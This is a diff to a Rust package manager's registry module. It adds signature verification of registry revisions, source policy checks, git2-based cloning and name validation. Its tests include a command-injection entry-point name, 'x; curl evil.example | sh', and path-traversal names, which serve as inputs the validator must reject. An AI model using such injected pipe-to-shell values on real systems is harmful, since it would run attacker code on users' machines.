@@ -10,12 +10,22 @@ use std::collections::HashMap;
 use std::fs;
 use std::path::{Path, PathBuf};
 
-use crate::config::{AuthType, RegistryConfig, ToolConfig};
+use crate::config::{RegistryConfig, ToolConfig};
+use crate::docker::ContainerConfig;
 use crate::error::TuxBoxError;
+use crate::native::NativeConfig;
+use crate::python::PackageIndex;
+use crate::release::ReleaseSource;
+use crate::sandbox::SandboxConfig;
+use crate::signing::{self, ToolSigning};
 
 /// Registry tools.toml structure
 #[derive(Debug, Serialize, Deserialize)]
 pub struct Registry {
+    /// Package index for every Python tool of this registry (tools may override it)
+    pub python_index: Option<PackageIndex>,
+    /// Signature requirements for every tool repo of this registry (tools may override them)
+    pub signing: Option<ToolSigning>,
     #[serde(default)]
     pub tools: HashMap<String, RegistryTool>,
 }
@@ -27,11 +37,42 @@ pub struct RegistryTool {
     pub repo: String,
     pub branch: Option<String>,
     pub version: Option<String>,
+    /// Native tools: exact release tag (e.g. `v1.4.2`)
+    pub tag: Option<String>,
+    /// Native tools: consider prereleases when resolving `version`
+    pub prerelease: Option<bool>,
     #[serde(rename = "type")]
     pub tool_type: Option<String>,
     pub description: Option<String>,
     pub commands: Option<RegistryCommands>,
     pub dependencies: Option<RegistryDependencies>,
+    /// Native tools: expected SHA-256 per platform (e.g. `linux-x86_64 = "..."`)
+    pub sha256: Option<HashMap<String, String>>,
+    /// Native tools: release provider (GitHub Enterprise, Gitea, GitLab, HTTP mirror)
+    pub release: Option<ReleaseSource>,
+    /// Native tools: asset name patterns, archive layout and extra binaries
+    pub native: Option<NativeConfig>,
+    /// Python tools: package index (defaults to the registry's `python_index`)
+    pub python_index: Option<PackageIndex>,
+    /// Container runs: mounts, environment passthrough, network and extra flags
+    pub container: Option<ContainerConfig>,
+    /// Bash, venv, native, build and node runs: readable/writable paths and network access
+    pub sandbox: Option<SandboxConfig>,
+    /// Signature requirements for the tool repo (defaults to the registry's `signing`)
+    pub signing: Option<ToolSigning>,
+}
+
+impl RegistryTool {
+    /// Every URL the tool downloads from: repo, release source, package indexes
+    pub fn source_urls(&self) -> Vec<&str> {
+        let mut urls = vec![self.repo.as_str()];
+        urls.extend(self.release.as_ref().and_then(|r| r.url.as_deref()));
+        if let Some(index) = &self.python_index {
+            urls.extend(index.index_url.as_deref());
+            urls.extend(index.extra_index_urls.iter().map(String::as_str));
+        }
+        urls
+    }
 }
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
@@ -44,6 +85,10 @@ pub struct RegistryCommands {
 pub struct RegistryDependencies {
     pub python: Option<String>,
     pub requirements: Option<String>,
+    /// Python extras to install, e.g. `["cli"]`
+    pub extras: Option<Vec<String>>,
+    /// Node.js version requirement for `node` tools (e.g. ">=18")
+    pub node: Option<String>,
 }
 
 /// Clone or update a registry
@@ -74,40 +119,6 @@ pub fn sync_registry(
     Ok(registry_dir)
 }
 
-/// Run `git pull` via system git in the given directory
-fn system_git_pull(dir: &Path) -> Result<()> {
-    use std::process::Command;
-
-    let status = Command::new("git")
-        .args(["pull", "--ff-only"])
-        .current_dir(dir)
-        .status()
-        .context("Failed to execute git pull")?;
-
-    if !status.success() {
-        anyhow::bail!("git pull failed in {}", dir.display());
-    }
-    Ok(())
-}
-
-/// Run `git clone` via system git
-fn system_git_clone(url: &str, dest: &Path) -> Result<()> {
-    use std::process::Command;
-
-    let status = Command::new("git")
-        .args(["clone", url, dest.to_str().unwrap()])
-        .status()
-        .context("Failed to execute git clone")?;
-
-    if !status.success() {
-        anyhow::bail!(
-            "git clone failed.\nURL: {}\nEnsure SSH keys are configured for SSH URLs.",
-            url
-        );
-    }
-    Ok(())
-}
-
 /// Clone a registry repository
 fn clone_registry(registry_config: &RegistryConfig, dest: &Path) -> Result<()> {
     // Ensure parent directory exists
@@ -115,95 +126,61 @@ fn clone_registry(registry_config: &RegistryConfig, dest: &Path) -> Result<()> {
         fs::create_dir_all(parent).context("Failed to create registry directory")?;
     }
 
-    match registry_config.auth_type {
-        AuthType::Ssh => {
-            // SSH: always use system git — git2 has no SSH key callbacks
-            system_git_clone(&registry_config.url, dest)?;
-            println!("  {} Registry cloned successfully", "✓".green());
-        }
-        AuthType::Https => {
-            // HTTPS: try git2 first (respects proxy settings), fall back to system git
-            use git2::build::RepoBuilder;
-
-            let mut builder = RepoBuilder::new();
-            let mut fetch_options = git2::FetchOptions::new();
-            let mut proxy_opts = git2::ProxyOptions::new();
-            proxy_opts.auto();
-            fetch_options.proxy_options(proxy_opts);
-            builder.fetch_options(fetch_options);
-
-            if builder.clone(&registry_config.url, dest).is_ok() {
-                println!("  {} Registry cloned successfully", "✓".green());
-            } else {
-                println!(
-                    "  {} git2 failed, trying system git command...",
-                    "→".yellow()
-                );
-                system_git_clone(&registry_config.url, dest)?;
-                println!(
-                    "  {} Registry cloned successfully (via git command)",
-                    "✓".green()
-                );
-            }
-        }
+    // git2 for both SSH and HTTPS; credentials come from `[registries.auth]` and the defaults
+    crate::credentials::clone(
+        &registry_config.url,
+        dest,
+        None,
+        registry_config.auth.as_ref(),
+    )?;
+    println!("  {} Registry cloned successfully", "✓".green());
+
+    // A registry that fails verification is not kept
+    let head = git2::Repository::open(dest)
+        .and_then(|repo| repo.head()?.peel_to_commit().map(|c| c.id()))
+        .context("Failed to open cloned registry")?;
+    if let Err(e) = verify_revision(registry_config, dest, head) {
+        let _ = fs::remove_dir_all(dest);
+        return Err(e);
     }
 
     Ok(())
 }
 
-/// Update a registry repository (git pull)
+/// Update a registry repository: fetch its branch and fast-forward to it
 fn update_registry(registry_config: &RegistryConfig, registry_dir: &Path) -> Result<()> {
-    match registry_config.auth_type {
-        AuthType::Ssh => {
-            // SSH: always use system git — git2 fetch has no SSH key callbacks
-            system_git_pull(registry_dir)?;
-            println!("  {} Registry updated successfully", "✓".green());
-        }
-        AuthType::Https => {
-            // HTTPS: try git2 first (respects proxy), fall back to system git
-            if update_registry_git2(registry_dir).is_err() {
-                println!("  {} git2 failed, trying system git pull...", "→".yellow());
-                system_git_pull(registry_dir)?;
-                println!(
-                    "  {} Registry updated successfully (via git command)",
-                    "✓".green()
-                );
-            }
-        }
-    }
-
-    Ok(())
-}
-
-/// Update registry via git2 (HTTPS only — no SSH support)
-fn update_registry_git2(registry_dir: &Path) -> Result<()> {
     use git2::Repository;
 
     let repo = Repository::open(registry_dir).context("Failed to open registry repository")?;
+    let branch = repo
+        .head()
+        .ok()
+        .and_then(|h| h.shorthand().map(str::to_string))
+        .unwrap_or_else(|| "main".to_string());
 
     let mut remote = repo
         .find_remote("origin")
         .context("Failed to find remote 'origin'")?;
-    let mut fetch_options = git2::FetchOptions::new();
-    let mut proxy_opts = git2::ProxyOptions::new();
-    proxy_opts.auto();
-    fetch_options.proxy_options(proxy_opts);
+    let mut fetch_options = crate::credentials::fetch_options(registry_config.auth.as_ref());
 
     remote
-        .fetch(&["main"], Some(&mut fetch_options), None)
-        .context("Fetch failed")?;
+        .fetch(&[branch.as_str()], Some(&mut fetch_options), None)
+        .map_err(|e| crate::credentials::git_error("Fetch of", &registry_config.url, e))?;
 
     let fetch_head = repo.find_reference("FETCH_HEAD")?;
     let fetch_commit = repo.reference_to_annotated_commit(&fetch_head)?;
     let analysis = repo.merge_analysis(&[&fetch_commit])?;
 
     if analysis.0.is_up_to_date() {
+        let head = repo.head()?.peel_to_commit()?.id();
+        verify_revision(registry_config, registry_dir, head)?;
         println!("  {} Registry already up to date", "✓".green());
     } else if analysis.0.is_fast_forward() {
-        let refname = "refs/heads/main";
-        let mut reference = repo.find_reference(refname)?;
+        verify_revision(registry_config, registry_dir, fetch_commit.id())?;
+        let refname = format!("refs/heads/{}", branch);
+        let mut reference = repo.find_reference(&refname)?;
         reference.set_target(fetch_commit.id(), "Fast-forward merge")?;
-        repo.set_head(refname)?;
+        repo.set_head(&refname)?;
         repo.checkout_head(Some(git2::build::CheckoutBuilder::default().force()))?;
         println!("  {} Registry updated successfully", "✓".green());
     } else {
@@ -213,12 +190,82 @@ fn update_registry_git2(registry_dir: &Path) -> Result<()> {
     Ok(())
 }
 
+/// Refuse revision `oid` of a signed registry unless its commit signature and/or
+/// `tools.toml.minisig` check out against the keys in `[registries.signing]`
+fn verify_revision(
+    registry_config: &RegistryConfig,
+    registry_dir: &Path,
+    oid: git2::Oid,
+) -> Result<()> {
+    let Some(signing) = &registry_config.signing else {
+        return Ok(());
+    };
+    if signing::verified_revision(registry_dir).as_deref() == Some(oid.to_string().as_str()) {
+        return Ok(());
+    }
+
+    let refuse = |reason: String| -> anyhow::Error {
+        let reason = reason
+            .strip_prefix("Signature verification failed: ")
+            .unwrap_or(&reason)
+            .to_string();
+        TuxBoxError::SignatureError(format!(
+            "refusing revision {} of registry '{}': {}",
+            &oid.to_string()[..12],
+            registry_config.name,
+            reason
+        ))
+        .into()
+    };
+    if signing.allowed_signers.is_none() && signing.minisign_keys.is_empty() {
+        return Err(refuse(
+            "no allowed_signers or minisign_keys configured".into(),
+        ));
+    }
+
+    let repo =
+        git2::Repository::open(registry_dir).context("Failed to open registry repository")?;
+    if let Some(signers) = &signing.allowed_signers {
+        let home = dirs::home_dir().unwrap_or_default();
+        let signers = crate::config::expand_path(signers, &home, &std::env::current_dir()?);
+        let principal =
+            signing::verify_commit(&repo, oid, &signers).map_err(|e| refuse(e.to_string()))?;
+        println!("  {} Registry commit signed by {}", "✓".green(), principal);
+    }
+    if !signing.minisign_keys.is_empty() {
+        let tools =
+            signing::file_at(&repo, oid, "tools.toml").map_err(|e| refuse(e.to_string()))?;
+        let signature = signing::file_at(&repo, oid, "tools.toml.minisig")
+            .map_err(|_| refuse("tools.toml.minisig is missing".into()))?;
+        signing::verify_minisign_any(
+            &tools,
+            &String::from_utf8_lossy(&signature),
+            &signing.minisign_keys,
+            "tools.toml",
+        )
+        .map_err(|e| refuse(e.to_string()))?;
+        println!("  {} tools.toml signature verified", "✓".green());
+    }
+
+    signing::record_verified(registry_dir, oid)
+}
+
+/// True for errors from a failed signature check
+pub fn is_signature_error(error: &anyhow::Error) -> bool {
+    matches!(
+        error.downcast_ref::<TuxBoxError>(),
+        Some(TuxBoxError::SignatureError(_))
+    )
+}
+
 /// Load tools.toml from a registry directory
 pub fn load_registry_tools(registry_dir: &Path) -> Result<Registry> {
     let tools_file = registry_dir.join("tools.toml");
 
     if !tools_file.exists() {
         return Ok(Registry {
+            python_index: None,
+            signing: None,
             tools: HashMap::new(),
         });
     }
@@ -226,18 +273,50 @@ pub fn load_registry_tools(registry_dir: &Path) -> Result<Registry> {
     let content = fs::read_to_string(&tools_file)
         .with_context(|| format!("Failed to read {}", tools_file.display()))?;
 
-    let registry: Registry = toml::from_str(&content)
+    let mut registry: Registry = toml::from_str(&content)
         .with_context(|| format!("Failed to parse {}", tools_file.display()))?;
+    for (key, tool) in &registry.tools {
+        for name in [key, &tool.name] {
+            crate::config::check_name("tool", name)
+                .with_context(|| format!("In {}", tools_file.display()))?;
+        }
+        // Entry points name launchers in ~/.tuxbox/bin and end up in shell scripts
+        for entry in tool.native.iter().flat_map(|n| n.entry_points.keys()) {
+            crate::config::check_name("entry point", entry)
+                .with_context(|| format!("In {}", tools_file.display()))?;
+        }
+    }
+
+    // Registry-wide index applies to every tool that does not set its own
+    if let Some(index) = &registry.python_index {
+        for tool in registry.tools.values_mut() {
+            tool.python_index.get_or_insert_with(|| index.clone());
+        }
+    }
+
+    // Same for signing; key files are shipped in (and relative to) the registry
+    for tool in registry.tools.values_mut() {
+        if let Some(signing) = &registry.signing {
+            tool.signing.get_or_insert_with(|| signing.clone());
+        }
+        if let Some(signing) = tool.signing.as_mut() {
+            signing.resolve_paths(registry_dir);
+        }
+    }
 
     Ok(registry)
 }
 
 /// Find a tool across all configured registries (priority-based)
+///
+/// The first match must come from a source allowed by the admin policy.
 pub fn find_tool_in_registries(
     tool_name: &str,
     registries: &[RegistryConfig],
     registry_base_dir: &Path,
 ) -> Result<(RegistryTool, String)> {
+    let policy = crate::trust::Policy::load()?;
+
     // Registries are already sorted by priority (highest first)
     for registry_config in registries {
         let registry_dir = registry_base_dir.join(&registry_config.name);
@@ -246,12 +325,22 @@ pub fn find_tool_in_registries(
         if !registry_dir.exists() {
             continue;
         }
+        if registry_config.signing.is_some() && !signing::is_head_verified(&registry_dir) {
+            return Err(TuxBoxError::SignatureError(format!(
+                "registry '{}' is at an unverified revision, run `tbox registry sync`",
+                registry_config.name
+            ))
+            .into());
+        }
 
         // Load tools from registry
         let registry = load_registry_tools(&registry_dir)?;
 
         // Check if tool exists in this registry
         if let Some(tool) = registry.tools.get(tool_name) {
+            for url in tool.source_urls() {
+                policy.check(tool_name, url)?;
+            }
             return Ok((tool.clone(), registry_config.name.clone()));
         }
     }
@@ -266,6 +355,8 @@ pub fn registry_tool_to_config(tool: &RegistryTool) -> ToolConfig {
         repo: tool.repo.clone(),
         branch: tool.branch.clone(),
         version: tool.version.clone(),
+        tag: tool.tag.clone(),
+        prerelease: tool.prerelease,
         tool_type: tool.tool_type.clone(),
         isolation: None, // Will be determined by execution strategy
         commands: tool.commands.as_ref().map(|c| crate::config::Commands {
@@ -273,6 +364,75 @@ pub fn registry_tool_to_config(tool: &RegistryTool) -> ToolConfig {
             setup: c.setup.clone(),
         }),
         python_version: tool.dependencies.as_ref().and_then(|d| d.python.clone()),
+        requirements: tool
+            .dependencies
+            .as_ref()
+            .and_then(|d| d.requirements.clone()),
+        extras: tool.dependencies.as_ref().and_then(|d| d.extras.clone()),
+        node_version: tool.dependencies.as_ref().and_then(|d| d.node.clone()),
+        sha256: tool.sha256.clone(),
+        release: tool.release.clone(),
+        native: tool.native.clone(),
+        python_index: tool.python_index.clone(),
+        container: tool.container.clone(),
+        sandbox: tool.sandbox.clone(),
+        signing: tool.signing.clone(),
+    }
+}
+
+/// Look up a tool (and its registry) in the locally cached registries without
+/// syncing them. `None` only when no registry defines it; an unverified
+/// registry or a policy refusal is an error, never a silent fallback.
+pub fn cached_tool_config(tool_name: &str) -> Result<Option<(ToolConfig, String)>> {
+    let config = match crate::config::load_config() {
+        Ok(config) => config,
+        Err(e) if matches!(e.downcast_ref(), Some(TuxBoxError::NotInitialized)) => {
+            return Ok(None);
+        }
+        Err(e) => return Err(e),
+    };
+    let registry_base_dir = crate::config::registry_dir()?;
+    match find_tool_in_registries(tool_name, &config.registries, &registry_base_dir) {
+        Ok((tool, registry)) => Ok(Some((registry_tool_to_config(&tool), registry))),
+        Err(e) if matches!(e.downcast_ref(), Some(TuxBoxError::ToolNotFound(_))) => Ok(None),
+        Err(e) => Err(e),
+    }
+}
+
+/// Signature requirements of `tool_name` according to the cached registries.
+///
+/// Fails when they cannot be determined (a registry is not synced, unreadable
+/// or unverified), so an update never skips a check it was supposed to make.
+/// `None` only when every registry is available and none defines the tool.
+pub fn tool_signing(
+    tool_name: &str,
+    registries: &[RegistryConfig],
+    registry_base_dir: &Path,
+) -> Result<Option<ToolSigning>> {
+    let unknown = |reason: String| -> anyhow::Error {
+        TuxBoxError::SignatureError(format!(
+            "cannot determine the signature requirements of '{}': {}",
+            tool_name, reason
+        ))
+        .into()
+    };
+
+    match find_tool_in_registries(tool_name, registries, registry_base_dir) {
+        Ok((tool, _)) => Ok(tool.signing),
+        Err(e) if matches!(e.downcast_ref(), Some(TuxBoxError::ToolNotFound(_))) => {
+            match registries
+                .iter()
+                .find(|r| !registry_base_dir.join(&r.name).exists())
+            {
+                Some(missing) => Err(unknown(format!(
+                    "registry '{}' is not synced, run `tbox registry sync`",
+                    missing.name
+                ))),
+                None => Ok(None),
+            }
+        }
+        Err(e) if is_signature_error(&e) => Err(e),
+        Err(e) => Err(unknown(format!("{:#}", e))),
     }
 }
 
@@ -330,6 +490,7 @@ pub fn sync_all_registries() -> Result<()> {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::config::AuthType;
 
     #[test]
     fn test_load_registry_tools_empty() {
@@ -338,4 +499,77 @@ mod tests {
         assert!(result.is_ok());
         assert_eq!(result.unwrap().tools.len(), 0);
     }
+
+    #[test]
+    fn test_load_registry_tools_rejects_path_names() {
+        let dir = tempfile::tempdir().unwrap();
+        for name in ["\"../escape\"", "\"a/b\"", "\"..\""] {
+            fs::write(
+                dir.path().join("tools.toml"),
+                format!("[tools.{name}]\nname = \"x\"\nrepo = \"https://example.com/x\"\n"),
+            )
+            .unwrap();
+            assert!(load_registry_tools(dir.path()).is_err(), "{name}");
+        }
+        fs::write(
+            dir.path().join("tools.toml"),
+            "[tools.ok]\nname = \"../escape\"\nrepo = \"https://example.com/x\"\n",
+        )
+        .unwrap();
+        assert!(load_registry_tools(dir.path()).is_err());
+
+        // Entry points become launcher file names and shell script words
+        for entry in ["\"x; curl evil.example | sh\"", "\"../../.profile\""] {
+            fs::write(
+                dir.path().join("tools.toml"),
+                format!(
+                    "[tools.ok]\nname = \"ok\"\nrepo = \"https://example.com/x\"\n\
+                     [tools.ok.native.entry_points]\n{entry} = \"{{bin}}\"\n"
+                ),
+            )
+            .unwrap();
+            assert!(load_registry_tools(dir.path()).is_err(), "{entry}");
+        }
+    }
+
+    #[test]
+    fn test_tool_signing_unknown_rejects() {
+        let base = tempfile::tempdir().unwrap();
+        let registries = vec![RegistryConfig {
+            name: "reg".to_string(),
+            url: "https://example.com/reg.git".to_string(),
+            priority: 100,
+            auth_type: AuthType::Https,
+            signing: None,
+            auth: None,
+        }];
+
+        // Registry not synced: the requirements are unknown
+        let err = tool_signing("scan", &registries, base.path()).unwrap_err();
+        assert!(is_signature_error(&err));
+
+        // Unparsable registry cache: same
+        let dir = base.path().join("reg");
+        fs::create_dir_all(&dir).unwrap();
+        fs::write(dir.join("tools.toml"), "[tools.scan\n").unwrap();
+        let err = tool_signing("scan", &registries, base.path()).unwrap_err();
+        assert!(is_signature_error(&err));
+
+        // Readable registry without the tool: nothing to require
+        fs::write(dir.join("tools.toml"), "").unwrap();
+        assert!(
+            tool_signing("scan", &registries, base.path())
+                .unwrap()
+                .is_none()
+        );
+
+        fs::write(
+            dir.join("tools.toml"),
+            "[tools.scan]\nname = \"scan\"\nrepo = \"https://example.com/scan\"\n\
+             [tools.scan.signing]\nrequire_signed = true\n",
+        )
+        .unwrap();
+        let signing = tool_signing("scan", &registries, base.path()).unwrap();
+        assert!(signing.is_some_and(|s| s.require_signed));
+    }
 }